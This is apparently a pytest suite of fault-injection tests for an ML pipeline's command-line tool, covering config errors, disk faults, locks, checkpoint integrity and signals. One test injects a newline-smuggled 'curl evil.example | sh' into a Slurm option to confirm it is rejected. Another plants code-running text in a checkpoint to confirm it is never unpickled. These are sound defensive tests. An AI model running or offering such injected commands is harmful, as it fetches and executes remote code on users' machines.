"""Fault injection, phase 1: the faults outside the training and eval stages.

Every fault through the CLI asserts (a) the exit code, (b) a message naming the file or field,
(c) no partial output and no temporary left behind, (d) earlier results byte-identical. The
table in docs/faults.md lists each fault and what the user sees; keep the two in step.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from pipeline import artifacts, checkpoints, cli, locks
from pipeline.artifacts import atomic_path, atomic_write_text, sha256_file
from pipeline.config import load_config
from pipeline.errors import ConfigError, LockError
from pipeline.layout import RunLayout
from pipeline.preemption import EXIT_PREEMPTED, EXIT_TERMINATED, PreemptionFlag
from pipeline.stages import prepare

REPO = Path(__file__).resolve().parents[1]
EXPERIMENT: dict[str, Any] = {
    "name": "faults",
    "model": {"name_or_path": "bundled:smollm2", "max_seq_len": 96},
    "data": {"test_ratio": 0.25, "seed": 0, "synthetic_size": 40},
    "tasks": [{"name": "sentiment", "source": {"type": "synthetic", "generator": "sentiment"}},
              {"name": "arithmetic", "source": {"type": "synthetic", "generator": "arithmetic"}}],
}


# ---- fixtures and helpers --------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _no_debug(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SLM_DEBUG", raising=False)


@pytest.fixture(scope="module")
def prepared_once(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An output_dir whose data `slm prepare` finished once (copied per test: prepare takes seconds)."""
    folder = tmp_path_factory.mktemp("prepared")
    path = _write(folder / "experiment.yaml", {**EXPERIMENT, "output_dir": str(folder / "out")})
    assert cli.main(["prepare", "-c", str(path)]) == 0
    return folder / "out"


@pytest.fixture
def earlier(tmp_path: Path, prepared_once: Path) -> Callable[..., Path]:
    """earlier(**changes) -> an experiment YAML on a copy of the prepared output_dir."""
    shutil.copytree(prepared_once, tmp_path / "out")

    def write(**changes: Any) -> Path:
        return _write(tmp_path / "experiment.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "out"), **changes})

    return write


def _write(path: Path, raw: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(raw, sort_keys=False))
    return path


def slm(capsys: pytest.CaptureFixture, *argv: str) -> tuple[int, str]:
    code = cli.main(list(argv))
    return code, capsys.readouterr().err


def results(out: Path) -> dict[str, str]:
    """sha256 of every result file under `out` (lock files and the resolved config.yaml aside)."""
    return {str(p.relative_to(out)): sha256_file(p) for p in sorted(out.rglob("*"))
            if p.is_file() and "locks" not in p.relative_to(out).parts and p.name != "config.yaml"}


def temporaries(out: Path) -> list[str]:
    return [str(p) for p in out.rglob("*") if p.name.endswith((".tmp", ".old"))] if out.exists() else []


def assert_user_error(code: int, err: str, *fragments: str) -> None:
    assert code == 2, err
    lines = err.strip().splitlines()
    assert sum(line.startswith("error: ") for line in lines) == 1 and lines[-1].startswith("hint: "), err
    assert "Traceback" not in err
    for fragment in fragments:
        assert fragment in err, f"{fragment!r} not in: {err}"


def spawn(code: str, *args: str, env: dict[str, str] | None = None) -> subprocess.Popen:
    """A Python child running `code`; returns once it printed 'ready'."""
    proc = subprocess.Popen([sys.executable, "-c", code, *args], cwd=REPO, stdout=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})})
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready", "the child did not start"
    return proc


def kill(proc: subprocess.Popen) -> None:
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=10)


# ---- the experiment file and overrides ----------------------------------------------------------------


def test_a_non_utf8_experiment_file_is_one_line_naming_it(tmp_path: Path, capsys) -> None:
    path = tmp_path / "latin1.yaml"
    path.write_bytes(f"name: caf\xe9\noutput_dir: {tmp_path / 'out'}\n".encode("latin-1"))
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), str(path), "not UTF-8")
    assert not (tmp_path / "out").exists()


def test_broken_yaml_syntax_names_the_file(tmp_path: Path, capsys) -> None:
    path = tmp_path / "broken.yaml"
    path.write_text(f"output_dir: {tmp_path / 'out'}\ntasks: [\n")
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), str(path), "not valid YAML")
    assert not (tmp_path / "out").exists()


def test_an_override_that_is_not_yaml_names_the_override(earlier, capsys, tmp_path: Path) -> None:
    before = results(tmp_path / "out")
    assert_user_error(*slm(capsys, "prepare", "-c", str(earlier()), "data.seed=[1"), "override 'data.seed=[1'")
    assert results(tmp_path / "out") == before


def test_a_task_named_dot_dot_is_refused_before_anything_is_written(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out")}
    raw["tasks"] = [raw["tasks"][0], {**raw["tasks"][1], "name": ".."}]
    assert_user_error(*slm(capsys, "prepare", "-c", str(_write(tmp_path / "e.yaml", raw))), "tasks.1.name", "'..'")
    assert not (tmp_path / "out").exists()


def test_a_newline_in_a_slurm_value_is_refused_and_no_script_is_printed(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out"),
           "slurm": {"extra_sbatch": ["--exclusive\ncurl evil.example | sh"]}}
    code = cli.main(["submit", "--dry-run", "-c", str(_write(tmp_path / "e.yaml", raw))])
    captured = capsys.readouterr()
    assert_user_error(code, captured.err, "slurm.extra_sbatch", "control character")
    assert "#SBATCH" not in captured.out and not (tmp_path / "out").exists()


def test_dtkr_groups_not_dividing_the_encoder_dim_fail_before_any_work(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out"), "dtkr": {"groups": 7}}
    code, err = slm(capsys, "prepare", "-c", str(_write(tmp_path / "e.yaml", raw)))
    assert_user_error(code, err, "dtkr", "groups=7 does not divide the dimension 384", "config.json")
    assert not (tmp_path / "out").exists(), "found at config load, before prepare or any query encoding"


def test_an_unreadable_experiment_file_names_it(tmp_path: Path, capsys, monkeypatch) -> None:
    path = _write(tmp_path / "e.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "out")})
    read_text = Path.read_text

    def denied(self: Path, *args: Any, **kwargs: Any) -> str:
        if self == path:  # root reads through any mode bits, so the denial is simulated
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(self))
        return read_text(self, *args, **kwargs)

    monkeypatch.setattr(Path, "read_text", denied)
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), f"permission denied: {path}", "ls -ld")


# ---- data files ---------------------------------------------------------------------------------------


def _cl_folder(tmp_path: Path, labels: bytes | None) -> Path:
    folder = tmp_path / "agnews"
    folder.mkdir()
    (folder / "train.json").write_text(json.dumps([{"sentence": f"story {i}", "label": "World"} for i in range(8)]))
    (folder / "test.json").write_text(json.dumps([{"sentence": "other story", "label": "World"}]))
    if labels is not None:
        (folder / "labels.json").write_bytes(labels)
    return folder


def test_a_cl_benchmark_folder_without_labels_json_is_an_error_unless_free_text(earlier, capsys,
                                                                               tmp_path: Path) -> None:
    folder = _cl_folder(tmp_path, labels=None)
    before = results(tmp_path / "out")
    news = {"name": "news", "source": {"type": "cl_benchmark", "path": str(folder)}}
    code, err = slm(capsys, "prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], news])))
    assert_user_error(code, err, f"{folder / 'labels.json'}: no such file", "metric: rouge_l", "labels: [...]")
    assert results(tmp_path / "out") == before and not temporaries(tmp_path / "out")
    # Spelled free text, the same folder prepares.
    news["metric"] = "rouge_l"
    assert cli.main(["prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], news]))]) == 0


def test_a_non_utf8_labels_file_names_it(earlier, capsys, tmp_path: Path) -> None:
    folder = _cl_folder(tmp_path, labels='["World", "Caf\xe9"]'.encode("latin-1"))
    before = results(tmp_path / "out")
    news = {"name": "news", "source": {"type": "cl_benchmark", "path": str(folder)}}
    code, err = slm(capsys, "prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], news])))
    assert_user_error(code, err, f"{folder / 'labels.json'}: not UTF-8")
    assert results(tmp_path / "out") == before


def test_a_non_utf8_data_file_names_it(earlier, capsys, tmp_path: Path) -> None:
    data = tmp_path / "qa.jsonl"
    data.write_bytes(b'{"input": "q", "output": "caf\xe9"}\n')
    before = results(tmp_path / "out")
    task = {"name": "qa", "source": {"type": "file", "path": str(data)}, "instruction": "Answer."}
    code, err = slm(capsys, "prepare", "-c", str(earlier(tasks=[EXPERIMENT["tasks"][0], task])))
    assert_user_error(code, err, f"{data}: not UTF-8")
    assert results(tmp_path / "out") == before


def test_a_torn_done_marker_makes_prepare_rebuild_instead_of_trusting_it(earlier, capsys, tmp_path: Path) -> None:
    before = results(tmp_path / "out")
    (tmp_path / "out" / "data" / "DONE").write_bytes(b'{"stage": "prep\xff')  # cut mid-write, garbled
    assert cli.main(["prepare", "-c", str(earlier())]) == 0
    assert "already done" not in capsys.readouterr().out, "a marker that does not parse is no DONE"
    assert results(tmp_path / "out") == before, "the rebuilt data equals the first build byte for byte"


# ---- the file system ----------------------------------------------------------------------------------


def test_a_full_disk_while_saving_keeps_the_earlier_data_and_no_temporary(earlier, capsys, tmp_path: Path,
                                                                        monkeypatch) -> None:
    before = results(tmp_path / "out")

    def full(task: Any, folder: Path) -> None:
        folder.mkdir()
        (folder / "data-00000-of-00001.arrow").write_bytes(b"half")  # a partial file, then ENOSPC
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))  # write() names no file

    monkeypatch.setattr(prepare, "_save", full)
    code, err = slm(capsys, "prepare", "--force", "-c", str(earlier()))
    assert_user_error(code, err, "no space left", str(tmp_path / "out" / "data"), "output_dir")
    assert results(tmp_path / "out") == before and not temporaries(tmp_path / "out")


def test_a_read_only_output_dir_names_the_path(tmp_path: Path, capsys, monkeypatch) -> None:
    def read_only(*args: Any, dir: str | None = None, **kwargs: Any) -> str:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), dir)

    monkeypatch.setattr(artifacts.tempfile, "mkdtemp", read_only)
    path = _write(tmp_path / "e.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "out")})
    code, err = slm(capsys, "prepare", "-c", str(path))
    assert_user_error(code, err, f"read-only file system: {tmp_path / 'out'}", "output_dir")
    assert not (tmp_path / "out" / "data").exists()


def test_an_output_dir_below_a_file_names_the_path(tmp_path: Path, capsys) -> None:
    (tmp_path / "a-file").write_text("not a folder")
    path = _write(tmp_path / "e.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "a-file" / "out")})
    code, err = slm(capsys, "prepare", "-c", str(path))
    assert_user_error(code, err, str(tmp_path / "a-file"))
    assert (tmp_path / "a-file").read_text() == "not a folder"


def test_a_killed_writer_leaves_a_temporary_the_next_writer_removes_but_a_live_ones_stays(tmp_path: Path) -> None:
    final = tmp_path / "artifact.json"
    writer = ("import sys, time\nfrom pathlib import Path\nfrom pipeline.artifacts import atomic_path\n"
              "with atomic_path(Path(sys.argv[1])) as tmp:\n    tmp.write_text('half')\n"
              "    print('ready', flush=True)\n    time.sleep(120)\n")
    live = spawn(writer, str(final))
    try:
        atomic_write_text(final, "other writer")  # runs beside the live one
        assert len(list(tmp_path.glob(".artifact.json.*.tmp"))) == 1, "a live writer's temporary is never removed"
    finally:
        kill(live)
    assert final.read_text() == "other writer"
    assert len(list(tmp_path.glob(".artifact.json.*.tmp"))) == 1, "SIGKILL leaves the temporary behind"
    atomic_write_text(final, "new")
    assert final.read_text() == "new" and not temporaries(tmp_path)


def test_an_old_leftover_without_an_owner_is_removed_and_a_fresh_one_is_kept(tmp_path: Path) -> None:
    old, fresh = tmp_path / ".data.old", tmp_path / ".data.abc123.tmp"
    old.mkdir()
    fresh.mkdir()
    past = time.time() - artifacts.STALE_AGE_S - 60
    os.utime(old, (past, past))
    assert artifacts.remove_leftovers(tmp_path / "data") == [old]
    assert fresh.exists(), "too young to be sure its writer is gone"


def test_two_writers_of_one_artifact_never_share_a_temporary_and_the_last_wins(tmp_path: Path) -> None:
    final = tmp_path / "data"
    with atomic_path(final) as first, atomic_path(final) as second:  # two prepares at once
        assert first.parent != second.parent and first.parent.exists(), "the second left the first's alone"
        for folder, text in ((first, "first"), (second, "second")):
            folder.mkdir()
            (folder / "x").write_text(text)
    assert (final / "x").read_text() == "first"  # the second finished first; the first replaced it whole
    assert not temporaries(tmp_path)


@pytest.mark.parametrize("kernel_swap", [True, False], ids=["renameat2", "two-renames"])
def test_a_folder_is_replaced_whole_and_no_old_copy_remains(tmp_path: Path, monkeypatch, kernel_swap: bool) -> None:
    final = tmp_path / "data"
    final.mkdir()
    (final / "a").write_text("old")
    (final / "gone").write_text("old")
    if not kernel_swap:
        monkeypatch.setattr(artifacts, "exchange", lambda a, b: False)
    with atomic_path(final) as tmp:
        tmp.mkdir()
        (tmp / "a").write_text("new")
    assert sorted(p.name for p in final.iterdir()) == ["a"] and (final / "a").read_text() == "new"
    assert not temporaries(tmp_path) and not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_renameat2_swaps_two_folders_in_one_step(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "x").write_text("a")
    (b / "x").write_text("b")
    if not artifacts.exchange(a, b):
        pytest.skip("this kernel or file system has no RENAME_EXCHANGE (the two-rename fallback is tested)")
    assert (a / "x").read_text() == "b" and (b / "x").read_text() == "a"


# ---- concurrent writers ---------------------------------------------------------------------------------

HOLDER = ("import sys, time\nfrom pathlib import Path\nfrom pipeline.locks import hold\n"
          "with hold(Path(sys.argv[1]), 'x'):\n    print('ready', flush=True)\n    time.sleep(120)\n")


def test_a_second_writer_of_one_output_folder_fails_at_once_naming_the_holder(tmp_path: Path) -> None:
    layout = RunLayout(tmp_path / "out", "slm")
    holder = spawn(HOLDER, str(locks.lock_path(layout)), env={"SLURM_JOB_ID": "4242"})
    try:
        start = time.monotonic()
        with pytest.raises(LockError) as err, locks.writer_lock(layout):
            pass
        assert time.monotonic() - start < 5, "fails at once, does not wait"
        message = str(err.value)
        for fragment in (f"pid {holder.pid}", f"host {socket.gethostname()}", "Slurm job 4242",
                         str(layout.root), str(locks.lock_path(layout))):
            assert fragment in message, message
        assert "scancel 4242" in (err.value.hint or "")
        assert locks.holder(locks.lock_path(layout))["pid"] == holder.pid
        with locks.writer_lock(layout.for_method("seq_lora")):
            pass  # another method of the same output_dir is another folder: no conflict
    finally:
        kill(holder)


def test_status_shows_the_writer_without_waiting_for_it(tmp_path: Path, capsys) -> None:
    layout = RunLayout.of(load_config(None, [f"output_dir={tmp_path / 'out'}"]))
    holder = spawn(HOLDER, str(locks.lock_path(layout)), env={"SLURM_JOB_ID": "77"})
    try:
        assert cli.main(["status", f"output_dir={tmp_path / 'out'}"]) == 0
    finally:
        kill(holder)
    assert f"output folder is being written by pid {holder.pid} on host {socket.gethostname()} (Slurm job 77)" \
        in capsys.readouterr().out


def test_a_writer_killed_by_sigkill_leaves_no_stale_lock(tmp_path: Path) -> None:
    layout = RunLayout(tmp_path / "out", "slm")
    kill(spawn(HOLDER, str(locks.lock_path(layout))))
    with locks.writer_lock(layout):
        pass
    assert locks.holder(locks.lock_path(layout)) is None


def test_the_writer_lock_is_reentrant_and_only_rank_0_takes_it(tmp_path: Path, monkeypatch) -> None:
    layout = RunLayout(tmp_path / "out", "slm")
    with locks.writer_lock(layout), locks.writer_lock(layout):  # slm run -> train: one process, one writer
        assert locks.holder(locks.lock_path(layout))["pid"] == os.getpid()
    monkeypatch.setenv("RANK", "1")
    holder = spawn(HOLDER, str(locks.lock_path(layout)), env={"RANK": "0"})
    try:
        with locks.writer_lock(layout):
            pass  # rank 1 of a torchrun job is the same writer as its rank 0
    finally:
        kill(holder)


def test_prepare_while_another_prepare_holds_the_data_fails_naming_it(earlier, capsys, tmp_path: Path,
                                                                       monkeypatch) -> None:
    path = earlier()
    layout = RunLayout.of(load_config(path))
    before = results(tmp_path / "out")
    monkeypatch.setattr(locks, "DATA_LOCK_WAIT_S", 0.3)  # a real prepare waits up to an hour
    holder = spawn(HOLDER, str(locks.data_lock_path(layout)))
    try:
        code, err = slm(capsys, "prepare", "--force", "-c", str(path))
    finally:
        kill(holder)
    assert_user_error(code, err, f"data folder {layout.data} is in use by pid {holder.pid}")
    assert results(tmp_path / "out") == before and not temporaries(tmp_path / "out")


# ---- checkpoints --------------------------------------------------------------------------------------


class FakeEngine:
    """What checkpoints.py needs of a DeepSpeed engine: save writes .pt files, load records the tag."""

    def __init__(self) -> None:
        self.loaded: list[str] = []

    def save_checkpoint(self, folder: str, tag: str, client_state: dict, exclude_frozen_parameters: bool) -> None:
        (Path(folder) / tag).mkdir(parents=True)
        (Path(folder) / tag / "mp_rank_00_model_states.pt").write_bytes(os.urandom(64))
        (Path(folder) / tag / "zero_pp_rank_0_mp_rank_00_optim_states.pt").write_bytes(os.urandom(64))

    def load_checkpoint(self, folder: str, tag: str, load_module_strict: bool) -> tuple[str, dict]:
        self.loaded.append(tag)
        return str(Path(folder) / tag), {"step": checkpoints.step_of(Path(folder) / tag)}


@pytest.fixture
def two_checkpoints(tmp_path: Path) -> tuple[Path, FakeEngine]:
    state, engine = tmp_path / "train_state", FakeEngine()
    for step in (3, 6):
        checkpoints.save_checkpoint(engine, state, step)
    return state, engine


@pytest.mark.parametrize("fault", ["modified", "truncated", "extra_file", "group_writable", "old_marker", "no_marker"])
def test_a_bad_newest_checkpoint_is_never_unpickled_and_resume_falls_back(two_checkpoints, capsys, fault: str) -> None:
    state, engine = two_checkpoints
    newest = state / checkpoints.tag(6)
    model = newest / "mp_rank_00_model_states.pt"
    if fault == "modified":
        model.write_bytes(b"import os; os.system('echo owned')")  # a pickle that runs code, say
    elif fault == "truncated":
        model.write_bytes(model.read_bytes()[:10])
    elif fault == "extra_file":
        (newest / "zero_pp_rank_1_mp_rank_00_optim_states.pt").write_bytes(b"planted")
    elif fault == "group_writable":
        os.chmod(model, 0o664)
    elif fault == "old_marker":
        (newest / checkpoints.COMPLETE).write_text("6")  # the format before hashes were recorded
    else:
        (newest / checkpoints.COMPLETE).unlink()
    assert checkpoints.resume_latest(engine, state) == 3
    assert engine.loaded == [checkpoints.tag(3)], "the bad checkpoint never reached DeepSpeed's torch.load"
    warning = capsys.readouterr().err
    assert f"checkpoint {newest} could not be loaded" in warning and "not unpickling" in warning
    expected = {"modified": f"{model} does not match the sha256", "truncated": "does not match the sha256",
                "extra_file": "does not list: zero_pp_rank_1", "group_writable": "chmod -R go-w",
                "old_marker": "records no file hashes", "no_marker": "incomplete"}[fault]
    assert expected in warning


def test_saved_checkpoints_are_private_and_list_every_file(two_checkpoints) -> None:
    state, _ = two_checkpoints
    tag_dir = state / checkpoints.tag(6)
    marker = json.loads((tag_dir / checkpoints.COMPLETE).read_text())
    assert set(marker["sha256"]) == {"mp_rank_00_model_states.pt", "zero_pp_rank_0_mp_rank_00_optim_states.pt"}
    assert os.stat(state).st_mode & 0o077 == 0 and os.stat(tag_dir / "mp_rank_00_model_states.pt").st_mode & 0o077 == 0
    assert checkpoints.verify_checkpoint(tag_dir) is None


def test_when_no_checkpoint_verifies_training_starts_afresh_with_a_warning(two_checkpoints, capsys) -> None:
    state, engine = two_checkpoints
    for tag_dir in checkpoints.list_tags(state):
        (tag_dir / "mp_rank_00_model_states.pt").write_bytes(b"x")
    assert checkpoints.resume_latest(engine, state) == 0 and engine.loaded == []
    assert "training this task from step 0" in capsys.readouterr().err


# ---- signals ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("signals", "code"), [
    ([signal.SIGUSR1], EXIT_PREEMPTED), ([signal.SIGTERM], EXIT_TERMINATED),
    ([signal.SIGUSR1, signal.SIGTERM], EXIT_TERMINATED),  # a cancel during a preemption checkpoint stays final
])
def test_usr1_asks_for_a_requeue_and_sigterm_for_a_stop(signals: list[int], code: int) -> None:
    with PreemptionFlag() as flag:
        for sig in signals:
            os.kill(os.getpid(), sig)
        deadline = time.monotonic() + 5
        while len(flag.received) < len(signals) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert flag.requested and flag.exit_code == code
        assert ("not requeued" in flag.describe()) == (code == EXIT_TERMINATED)


# ---- the error path itself ----------------------------------------------------------------------------


def test_a_bug_keeps_its_traceback(monkeypatch) -> None:
    def bug(*args: Any) -> None:
        raise ValueError("an internal invariant broke")

    monkeypatch.setattr(prepare, "main", bug)
    with pytest.raises(ValueError, match="invariant"):
        cli.main(["prepare"])


def test_debug_shows_the_traceback_of_a_user_error(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("SLM_DEBUG", "1")
    with pytest.raises(ConfigError):
        cli.main(["prepare", f"output_dir={tmp_path}", "tasks.0.name=.."])
    monkeypatch.delenv("SLM_DEBUG")
    for argv in (["--debug", "prepare"], ["prepare", "--debug"]):
        with pytest.raises(ConfigError):
            cli.main([*argv, f"output_dir={tmp_path}", "tasks.0.name=.."])


def test_a_value_error_of_the_key_code_is_a_user_error() -> None:
    import torch

    from pipeline.dtkr.keys import group_normalize
    from pipeline.error_report import user_message

    try:
        group_normalize(torch.zeros(2, 10), 3)
    except ValueError as e:
        assert user_message(e) == ("dtkr.groups=3 does not divide the encoder dimension 10",
                                   "add --debug (or set SLM_DEBUG=1) for the full traceback")


def test_ctrl_c_exits_130_without_a_traceback(monkeypatch, capsys) -> None:
    def interrupted(*args: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(prepare, "main", interrupted)
    assert cli.main(["prepare"]) == 130
    assert capsys.readouterr().err.strip() == "interrupted"
